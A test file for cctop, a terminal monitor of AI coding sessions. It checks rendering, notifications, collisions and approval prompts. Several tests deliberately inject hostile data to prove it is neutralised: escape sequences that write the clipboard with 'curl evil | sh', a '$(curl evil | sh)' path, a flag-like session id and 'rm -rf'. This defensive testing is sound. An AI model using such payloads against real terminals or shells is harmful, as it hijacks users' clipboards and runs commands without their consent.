import { describe, expect, it } from 'vitest';
import type { Call } from '../../model/calls.js';
import type { Collision } from '../../model/collision.js';
import type { SessionDoc, SessionDocument } from '../../model/document.js';
import type { RunSnapshot } from '../../model/driven-run.js';
import { totalsOf } from '../../model/totals.js';
import { REPORT_VERSION } from '../../report/types.js';
import { PLAIN, paint } from '../cli/color.js';
import { width } from '../cli/format.js';
import { hiddenFromEnv } from './columns.js';
import { onKey } from './input.js';
import { decodeKeys, KeyDecoder } from './keys.js';
import { collisionNotification, notification, WaitWatcher } from './notify.js';
import { type Detail, initialView, keyOf, PANELS, render, resumeCommand, type ViewState } from './view.js';

const NOW = Date.parse('2026-11-29T12:00:00Z');

function session(id: string, over: Partial<SessionDoc> = {}): SessionDoc {
  return {
    provider: 'claude',
    id,
    file: `/home/u/.claude/projects/-w/${id}.jsonl`,
    deleted: false,
    subagentFiles: 0,
    project: `/home/u/src/${id}`,
    title: `the ${id} task, which has a long title so that narrow terminals have to cut it`,
    branch: 'main',
    model: 'claude-sonnet-4-5-20250929',
    models: ['claude-sonnet-4-5-20250929'],
    reasoningEffort: null,
    permissionMode: 'default',
    permission: 'ask',
    startedAt: new Date(NOW - 3_600_000).toISOString(),
    lastActiveAt: new Date(NOW - 60_000).toISOString(),
    state: 'idle',
    stateDetail: null,
    stateSource: 'inferred',
    running: false,
    process: null,
    pendingTool: null,
    inferred: null,
    tokens: { input: 10, output: 2000, cacheRead: 300_000, cacheWrite: 20_000, reasoning: null },
    requests: 12,
    cost: {
      usd: 1.25,
      source: 'estimated',
      included: false,
      unpriced: [],
      byModel: [],
      byHour: null,
      byDay: null,
    },
    context: { used: 80_000, window: 200_000, compactAt: 167_000 },
    tools: { calls: 9, failed: 1, byTool: {} },
    lines: { added: null, removed: null },
    compactions: 0,
    aborts: 0,
    rateLimits: null,
    ...over,
  };
}

function doc(sessions: SessionDoc[]): SessionDocument {
  return {
    totals: totalsOf(sessions),
    version: 1,
    generatedAt: new Date(NOW).toISOString(),
    plan: 'retail',
    timeZone: 'UTC',
    sessions,
    problems: [],
  };
}

function state(sessions: SessionDoc[], over: Partial<ViewState> = {}): ViewState {
  return { ...initialView(new Set()), doc: doc(sessions), loading: null, ...over };
}

const sessions = () => [
  session('alpha', { lastActiveAt: new Date(NOW - 5_000).toISOString(), state: 'working', running: true }),
  session('beta', { branch: 'fix/currency', cost: { ...session('x').cost, usd: 9 } }),
  session('gamma', { state: 'waiting', stateDetail: 'AskUserQuestion', running: true }),
  // Ended on a question nobody will answer: its process is gone.
  session('theta', {
    state: 'waiting',
    lastActiveAt: new Date(NOW - 86_400_000).toISOString(),
    cost: { ...session('x').cost, usd: 0.5 },
  }),
];

describe('keys from a raw terminal', () => {
  it('reads arrows, letters, a click and the wheel from one read', () => {
    expect(decodeKeys('\u001b[Bj\u001b[<0;7;4M\u001b[<64;1;1M')).toEqual([
      { kind: 'down' },
      { kind: 'char', ch: 'j' },
      { kind: 'click', x: 6, y: 3 },
      { kind: 'wheel', up: true },
    ]);
  });

  it('joins an escape sequence split across reads instead of typing its tail as text', () => {
    const d = new KeyDecoder();
    expect(d.feed('\u001b')).toEqual([]);
    expect(d.pending).toBe(true);
    expect(d.feed('[<0;5;')).toEqual([]);
    expect(d.feed('9M')).toEqual([{ kind: 'click', x: 4, y: 8 }]);
    expect(d.pending).toBe(false);
  });

  it('reads a lone Esc as the Esc key once the wait runs out', () => {
    const d = new KeyDecoder();
    expect(d.feed('/\u001b')).toEqual([{ kind: 'char', ch: '/' }]);
    expect(d.flush()).toEqual([{ kind: 'escape' }]);
  });

  it('drops unknown sequences rather than typing them into a filter', () => {
    expect(decodeKeys('\u001b[200~x')).toEqual([{ kind: 'char', ch: 'x' }]);
  });
});

describe('notifications', () => {
  it('ring once when a session crosses into waiting, not while it stays there', () => {
    const w = new WaitWatcher(keyOf);
    const idle = session('a');
    const waiting = session('a', { state: 'waiting' });
    expect(w.update([idle])).toEqual([]);
    expect(w.update([waiting]).map((c) => c.into)).toEqual(['waiting']);
    expect(w.update([waiting])).toEqual([]);
    expect(w.update([idle])).toEqual([]);
    expect(w.update([session('a', { inferred: 'probably-waiting' })]).map((c) => c.into)).toEqual([
      'probably-waiting',
    ]);
  });

  it('ring once when a session stops on an error, saying what went wrong', () => {
    const w = new WaitWatcher(keyOf);
    expect(w.update([session('a', { state: 'working' })])).toEqual([]);
    const failed = session('a', { state: 'error', stateDetail: 'API Error: 529 overloaded' });
    const [c] = w.update([failed]);
    expect(c?.into).toBe('error');
    expect(notification(c!)).toContain('stopped on an error: API Error: 529 overloaded');
    expect(w.update([failed])).toEqual([]);
  });

  it('do not ring for sessions already waiting when cctop starts', () => {
    const w = new WaitWatcher(keyOf);
    expect(w.update([session('a', { state: 'waiting' })])).toEqual([]);
  });

  it('carry no terminal control characters from a session title', () => {
    const text = notification({
      session: session('a', { title: 'evil\u001b]52;c;AAAA\u0007title' }),
      into: 'waiting',
    });
    // Only the bell and the OSC 9 frame itself are control characters.
    const body = text.slice('\u0007\u001b]9;'.length, -1);
    expect(body).not.toMatch(/[\u0000-\u001f]/);
    // The whole OSC 52 sequence is one mark: its payload is not shown as text either.
    expect(body).toContain('evil\ufffdtitle is waiting for you');
  });
});

describe('the screen', () => {
  for (const columns of [60, 80, 120, 200]) {
    it(`fits ${columns} columns without a wrapped line, whatever the panel`, () => {
      for (const panel of ['info', 'tools', 'context', 'cost', 'chat'] as const) {
        const r = render(state(sessions(), { panel }), PLAIN, columns, 30, NOW);
        expect(r.lines).toHaveLength(30);
        for (const line of r.lines) expect(width(line)).toBeLessThanOrEqual(columns);
      }
    });
  }

  it('keeps the title column and drops other columns from the right as the terminal narrows', () => {
    const header = (columns: number) => render(state(sessions()), PLAIN, columns, 30, NOW).lines[1]!;
    expect(header(200)).toContain('BRANCH');
    expect(header(60)).not.toContain('BRANCH');
    expect(header(60)).toContain('COST');
    expect(header(60)).toContain('PROJECT · TITLE');
  });

  it('at 80 columns drops CPU% and MEM, which no row fills, before the title shrinks', () => {
    // No process is seen for any of these sessions, nor a rate yet: CPU%, MEM and TOK/M would be ─
    // on every row. Before, the title had 16 cells beside them.
    const r = render(state(sessions()), PLAIN, 80, 30, NOW);
    expect(r.lines[1]).toBe(
      '  LAST   DUR    COST   $/1H   $/24H CTX% TOOLS ERR% TOKENS PROJECT · TITLE      ',
    );
    expect(r.lines.find((l) => l.includes('alpha ·'))).toBe(
      '>   5s  1h00   $1.25  $0.00   $0.00  48%     9  11%   322k alpha · the alpha ta…',
    );
    // With room for them, and as soon as one row has a process, they stay.
    expect(render(state(sessions()), PLAIN, 200, 30, NOW).lines[1]).toContain('CPU%   MEM');
    const running = session('iota', {
      process: { pids: [42], cpu: 12, memory: 300 << 20, command: 'claude' },
    });
    expect(render(state([...sessions(), running]), PLAIN, 80, 30, NOW).lines[1]).toContain('CPU%   MEM');
  });

  it('hides the columns CCTOP_COLUMNS_HIDE names', () => {
    const hidden = hiddenFromEnv('cpu, MEM,tok_rate');
    const header = render(state(sessions(), { hidden }), PLAIN, 200, 30, NOW).lines[1]!;
    expect(header).not.toContain('CPU%');
    expect(header).not.toContain('MEM');
    expect(header).not.toContain('TOK/M');
    expect(header).toContain('TOOLS');
  });

  it('puts the newest activity first and follows it', () => {
    const v = state(sessions());
    const r = render(v, PLAIN, 120, 30, NOW);
    expect(r.tableRows.map((x) => x.s.id)).toEqual(['alpha', 'beta', 'gamma', 'theta']);
    expect(v.selected).toBe(keyOf(r.tableRows[0]!.s));
  });

  it('filters on what a row shows, such as the branch, and moves the selection onto a shown row', () => {
    const v = state(sessions(), { follow: false, selected: keyOf(session('alpha')), filter: 'currency' });
    const r = render(v, PLAIN, 120, 30, NOW);
    expect(r.tableRows.map((x) => x.s.id)).toEqual(['beta']);
    expect(v.selected).toBe(keyOf(session('beta')));
    expect(r.lines.join('\n')).toContain('beta');
  });

  it('says so when a filter matches nothing', () => {
    const r = render(state(sessions(), { filter: 'zzz' }), PLAIN, 120, 30, NOW);
    expect(r.lines.join('\n')).toContain('nothing matches "zzz"');
  });

  it('sorts by cost when asked, and shows an unknown cost as ─, not $0', () => {
    const unknown = session('delta', { cost: { ...session('x').cost, usd: null } });
    const r = render(state([...sessions(), unknown], { sort: 'cost' }), PLAIN, 120, 30, NOW);
    expect(r.tableRows.map((x) => x.s.id)).toEqual(['beta', 'alpha', 'gamma', 'theta', 'delta']);
    const row = r.lines.find((l) => l.includes('delta ·'))!;
    expect(row).not.toContain('$0');
    expect(row).toContain('─');
  });

  it('marks states so they differ at a glance: working, waiting, probably waiting, stopped', () => {
    const r = render(
      state(
        [
          ...sessions(),
          session('eps', {
            state: 'working',
            running: false,
            lastActiveAt: new Date(NOW - 1000).toISOString(),
          }),
          session('zeta', { state: 'working', inferred: 'probably-waiting', pendingTool: 'Bash' }),
          session('omega'),
        ],
        { follow: false, selected: keyOf(session('omega')) },
      ),
      PLAIN,
      120,
      30,
      NOW,
    );
    const markOf = (id: string) => r.lines.find((l) => l.includes(`${id} ·`))!.slice(0, 1);
    expect(markOf('alpha')).toBe('●');
    expect(markOf('omega')).toBe('>'); // selected: a plain marker when there is no colour
    expect(markOf('gamma')).toBe('▲');
    expect(markOf('theta')).toBe('△'); // waiting on its user, but no process runs it any more
    expect(markOf('eps')).toBe('○');
    expect(markOf('zeta')).toBe('?');
    expect(markOf('beta')).toBe('·');
  });

  it('counts working and waiting agents (not stopped ones) in the overview, keeping the counts when narrow', () => {
    const wide = render(state(sessions()), PLAIN, 200, 30, NOW).lines[0]!;
    expect(wide).toMatch(/^cctop {2}hour .* · 30d .*1 working {2}▲ 1 waiting$/);
    const narrow = render(state(sessions()), PLAIN, 60, 30, NOW).lines[0]!;
    expect(narrow).toContain('1 waiting');
  });

  it('renders a transcript’s control characters as text, not as terminal commands', () => {
    const r = render(state([session('a', { title: 'x\u001b[2Jy' })]), PLAIN, 120, 30, NOW);
    expect(r.lines.join('\n')).not.toContain('\u001b[2J');
  });
});

/**
 * What an agent that read a hostile page can leave in a transcript: OSC 52 (the clipboard), OSC 0
 * (the window title), CSI (erase the screen), the 8-bit CSI and OSC, and a right-to-left override.
 */
const EVIL =
  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;pwned\u0007\u001b[2J\u009b2J\u009d0;x\u0007\u202e';
/** Anything a terminal acts on or hides (ESC included: the test paints no colour). */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

function hostileSession(): SessionDoc {
  return session(`id${EVIL}`, {
    project: `/home/u/src/${EVIL}proj`,
    title: `title${EVIL}`,
    branch: `br${EVIL}`,
    file: `/home/u/.claude/projects/${EVIL}/x.jsonl`,
    model: `claude-${EVIL}`,
    models: [`claude-${EVIL}`],
    reasoningEffort: `hi${EVIL}`,
    permissionMode: `m${EVIL}`,
    state: 'waiting',
    stateDetail: `Ask${EVIL}`,
    pendingTool: `Bash${EVIL}`,
    running: true,
    process: { pids: [1], cpu: 1, memory: 1 << 20, command: `claude ${EVIL}` },
    cost: { ...session('x').cost, unpriced: [`claude-${EVIL}`] },
  });
}

function hostileDetail(s: SessionDoc): Detail {
  const call: Call = {
    origin: `agent${EVIL}`,
    name: `Tool${EVIL}`,
    detail: `/etc/${EVIL}\nnext line`,
    argument: EVIL,
    startMs: NOW - 5000,
    endMs: NOW,
    result: `out${EVIL}`,
    failed: true,
    added: 1,
    removed: 1,
    files: [{ path: `/w/${EVIL}`, write: true, added: 1, removed: 1 }],
    growth: null,
    shared: false,
  };
  return {
    kind: 'ready',
    key: keyOf(s),
    log: { calls: [call], dropped: 0, requests: [], compactions: [], breakdown: null },
    // An empty report: the panels draw only its context series, which holds no words.
    report: {
      version: REPORT_VERSION,
      session: s,
      cost: { byModel: [], byDay: [], byHour: [] },
      context: { used: null, window: null, compactAt: null, compactions: [], series: [], breakdown: null },
      tools: { calls: 0, failed: null, byTool: [], failures: [], slowest: [], heaviest: [], dropped: 0 },
      files: [],
      subagents: [],
      problems: [],
    },
    conversation: {
      supported: true,
      earlier: 0,
      note: null,
      turns: [
        {
          seq: 0,
          role: 'assistant',
          kind: 'message',
          ts: '',
          text: `hello${EVIL}\nworld`,
          clipped: false,
          tools: [
            {
              name: `Tool${EVIL}`,
              detail: `d${EVIL}`,
              full: null,
              result: `r${EVIL}`,
              failed: false,
              added: 0,
              removed: 0,
              diff: [],
            },
          ],
        },
      ],
    },
  };
}

describe('the live table over a hostile transcript', () => {
  it('draws no escape, C1 or bidi control from any field, in the table or any panel', () => {
    const s = hostileSession();
    for (const panel of PANELS) {
      const v = state([s], { panel, detail: hostileDetail(s) });
      const lines = render(v, PLAIN, 200, 40, NOW).lines;
      for (const line of lines) expect(line, `${panel}: ${JSON.stringify(line)}`).not.toMatch(ACTIVE);
      for (const line of lines) expect(width(line)).toBeLessThanOrEqual(200);
      expect(lines.join('\n')).toContain('\ufffd');
    }
  });

  it('shows the words around a sequence, and the sequence as one mark', () => {
    const s = hostileSession();
    const lines = render(state([s], { panel: 'info' }), PLAIN, 200, 40, NOW).lines.join('\n');
    expect(lines).toContain('title\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd');
    expect(lines).not.toContain('Y3VybCBldmlsIHwgc2g=');
    expect(lines).not.toContain('pwned');
  });

  it('with colour on, lets through only cctop’s own colour codes', () => {
    const s = hostileSession();
    const colour = paint(true, {});
    for (const panel of PANELS) {
      const lines = render(state([s], { panel, detail: hostileDetail(s) }), colour, 200, 40, NOW).lines;
      for (const line of lines) {
        const bare = line.replace(/\u001b\[(?:0|1|2|7|22|27|31|32|33|39)m/g, '');
        expect(bare, `${panel}: ${JSON.stringify(line)}`).not.toMatch(ACTIVE);
      }
    }
  });

  it('shows a filter typed with control characters as marks', () => {
    const v = state([session('a')], { filter: `zz${EVIL}`, filtering: true });
    for (const line of render(v, PLAIN, 120, 30, NOW).lines) expect(line).not.toMatch(ACTIVE);
  });
});

describe('the resume command', () => {
  it('quotes a path that a shell would expand, so pasting it runs nothing', () => {
    const cmd = resumeCommand(session('abc-123', { project: "/w/$(curl evil | sh)/it's" }))!;
    expect(cmd).toBe(`cd '/w/$(curl evil | sh)/it'\\''s' && claude --resume abc-123`);
  });

  it('carries no control character to the clipboard', () => {
    const cmd = resumeCommand(hostileSession())!;
    expect(cmd).not.toMatch(ACTIVE);
    expect(cmd).toMatch(/^cd '.*' && claude --resume 'id.*'$/);
  });

  it('is not offered for an id that a program would read as a flag', () => {
    expect(resumeCommand(session('--dangerously-skip-permissions'))).toBeNull();
    expect(resumeCommand(session('abc', { project: '-rf' }))).toBe('claude --resume abc');
  });

  it('leaves a plain path and id as they are', () => {
    expect(resumeCommand(session('abc-123', { project: '/home/u/src/x' }))).toBe(
      'cd /home/u/src/x && claude --resume abc-123',
    );
  });
});

describe('collisions in the live table', () => {
  const app = '/home/u/src/app';
  const writer = (id: string, minutes: number, paths: string[]) => ({
    provider: 'claude' as const,
    id,
    title: `the ${id} task`,
    project: app,
    wroteAt: new Date(NOW - minutes * 60_000).toISOString(),
    paths,
  });
  const collisions = (): Collision[] => [
    {
      key: `file:${app}/src/parse.ts`,
      level: 'file',
      repoRoot: app,
      path: `${app}/src/parse.ts`,
      sessions: [writer('gamma', 1, [`${app}/src/parse.ts`]), writer('alpha', 4, [`${app}/src/parse.ts`])],
    },
    {
      key: 'repo:/home/u/src/lib',
      level: 'repo',
      repoRoot: '/home/u/src/lib',
      path: null,
      sessions: [writer('beta', 2, ['/home/u/src/lib/a.ts']), writer('theta', 3, ['/home/u/src/lib/b.ts'])],
    },
  ];

  it('marks a row that wrote the same file as another running session with !, and one sharing only a repository with ~', () => {
    const r = render(state(sessions(), { collisions: collisions(), follow: false }), PLAIN, 120, 30, NOW);
    const collisionMark = (id: string) => r.lines.find((l) => l.includes(`${id} ·`))!.slice(1, 2);
    expect(collisionMark('alpha')).toBe('!');
    expect(collisionMark('gamma')).toBe('!');
    expect(collisionMark('beta')).toBe('~');
    expect(
      render(state(sessions()), PLAIN, 120, 30, NOW)
        .lines.find((l) => l.includes('beta ·'))!
        .slice(1, 2),
    ).toBe(' ');
  });

  it('fits a narrow terminal, the panel included', () => {
    for (const columns of [60, 80]) {
      const v = state(sessions(), { collisions: collisions(), panel: 'collisions' });
      for (const line of render(v, PLAIN, columns, 30, NOW).lines)
        expect(width(line)).toBeLessThanOrEqual(columns);
    }
  });

  it('counts them in the header', () => {
    const header = render(state(sessions(), { collisions: collisions() }), PLAIN, 200, 30, NOW).lines[0]!;
    expect(header).toContain('! 1 same file  ~ 1 same repo');
  });

  it('lists them in the Collisions panel, the selected session’s first, with the file, the repository and when each wrote', () => {
    const v = state(sessions(), {
      collisions: collisions(),
      panel: 'collisions',
      follow: false,
      selected: keyOf(session('beta')),
    });
    const text = render(v, PLAIN, 140, 40, NOW).lines.join('\n');
    const panel = text.slice(text.indexOf('[Collisions]'));
    expect(panel).toMatch(
      /~ \/home\/u\/src\/lib {2}same repository, no file in common\n.*▸ Claude .*the beta task .*wrote 2m ago {2}a\.ts/,
    );
    expect(panel).toMatch(
      /elsewhere \(1\)\n {2}! src\/parse\.ts {2}in \/home\/u\/src\/app\n.* the gamma task .*wrote 1m ago/,
    );
    expect(panel.indexOf('the beta task')).toBeLessThan(panel.indexOf('the gamma task'));
  });

  it('says so when there are none, and the c key opens the panel', () => {
    const v = state(sessions());
    const keys = {
      tableRows: () => [],
      tableStart: () => 2,
      screenRows: () => 30,
      quit: () => {},
      say: () => {},
      repaint: () => {},
      signal: () => {},
      answer: null,
    };
    onKey(v, { kind: 'char', ch: 'c' }, keys);
    expect(v.panel).toBe('collisions');
    expect(render(v, PLAIN, 140, 30, NOW).lines.join('\n')).toContain('no collisions');
  });

  it('draws a hostile path or title in a collision as marks, never as terminal commands', () => {
    const evil: Collision = {
      key: 'file:x',
      level: 'file',
      repoRoot: `/w/${EVIL}`,
      path: `/w/${EVIL}/src/${EVIL}.ts`,
      sessions: [
        { ...writer('alpha', 1, []), title: `t${EVIL}` },
        { ...writer('beta', 2, []), title: `u${EVIL}` },
      ],
    };
    for (const p of [PLAIN, paint(true, {})]) {
      const lines = render(
        state(sessions(), { collisions: [evil], panel: 'collisions' }),
        p,
        200,
        40,
        NOW,
      ).lines;
      for (const line of lines)
        expect(line.replace(/\u001b\[(?:0|1|2|7|22|27|31|32|33|39)m/g, '')).not.toMatch(ACTIVE);
      expect(lines.join('\n')).toContain('\ufffd');
    }
    expect(collisionNotification(evil).slice('\u0007\u001b]9;'.length, -1)).not.toMatch(/[\u0000-\u001f]/);
  });
});

describe('a run that cctop/drive drives', () => {
  const run = (over: Partial<RunSnapshot> = {}): RunSnapshot => ({
    id: 'run-1',
    agent: 'claude',
    harness: 'claude',
    program: 'fix-bot.mjs',
    pid: 4242,
    cwd: '/home/u/src/alpha',
    model: null,
    session: 'alpha',
    startedAtMs: NOW - 10_000,
    phase: 'waiting',
    tool: 'Bash',
    toolCalls: 1,
    toolFailures: 0,
    tokens: null,
    costUsd: null,
    pending: [{ id: 'req-7', tool: 'Bash', input: `{"command":"rm -rf build${EVIL}"}` }],
    answered: null,
    remote: true,
    end: null,
    ...over,
  });
  function keysFor(sent: string[][]) {
    const said: string[] = [];
    return {
      said,
      keys: {
        tableRows: () => [],
        tableStart: () => 2,
        screenRows: () => 30,
        quit: () => {},
        say: (t: string) => said.push(t),
        repaint: () => {},
        signal: () => {},
        answer: (r: string, q: string, b: 'allow' | 'deny') => {
          sent.push([r, q, b]);
          return { kind: 'sent' as const };
        },
      },
    };
  }
  const waiting = (over: Partial<RunSnapshot> = {}) =>
    state([session('alpha', { state: 'waiting', stateSource: 'driven', driven: run(over) })], {
      selected: keyOf(session('alpha')),
    });

  it('is marked with the program driving it, and the Info panel shows what it asks in full, safely', () => {
    const lines = render(waiting(), PLAIN, 160, 40, NOW).lines.join('\n');
    expect(lines).toContain('⇄ fix-bot.mjs a/d');
    expect(lines).toContain('by fix-bot.mjs (pid 4242)');
    expect(lines).toContain('rm -rf build');
    for (const line of render(waiting(), paint(true, {}), 160, 40, NOW).lines)
      expect(line.replace(/\u001b\[(?:0|1|2|7|22|27|31|32|33|39)m/g, '')).not.toMatch(ACTIVE);
  });

  it('a shows the tool and its input and sends nothing until y', () => {
    const sent: string[][] = [];
    const { keys } = keysFor(sent);
    const v = waiting();
    onKey(v, { kind: 'char', ch: 'a' }, keys);
    expect(sent).toEqual([]);
    expect(render(v, PLAIN, 200, 40, NOW).lines.at(-1)).toMatch(
      /^Allow Bash: \{"command":"rm -rf build.*y: allow/,
    );
    onKey(v, { kind: 'char', ch: 'y' }, keys);
    expect(sent).toEqual([['run-1', 'req-7', 'allow']]);
  });

  it('d then any key but y answers nothing', () => {
    const sent: string[][] = [];
    const { keys, said } = keysFor(sent);
    const v = waiting();
    onKey(v, { kind: 'char', ch: 'd' }, keys);
    onKey(v, { kind: 'char', ch: 'n' }, keys);
    expect(sent).toEqual([]);
    expect(said).toEqual(['not answered']);
    expect(v.confirm).toBeNull();
  });

  it('refuses to answer for a program that answers its own approvals', () => {
    const sent: string[][] = [];
    const { keys, said } = keysFor(sent);
    const v = waiting({ remote: false });
    onKey(v, { kind: 'char', ch: 'a' }, keys);
    expect(v.confirm).toBeNull();
    expect(said[0]).toContain('answers its own approvals');
  });
});
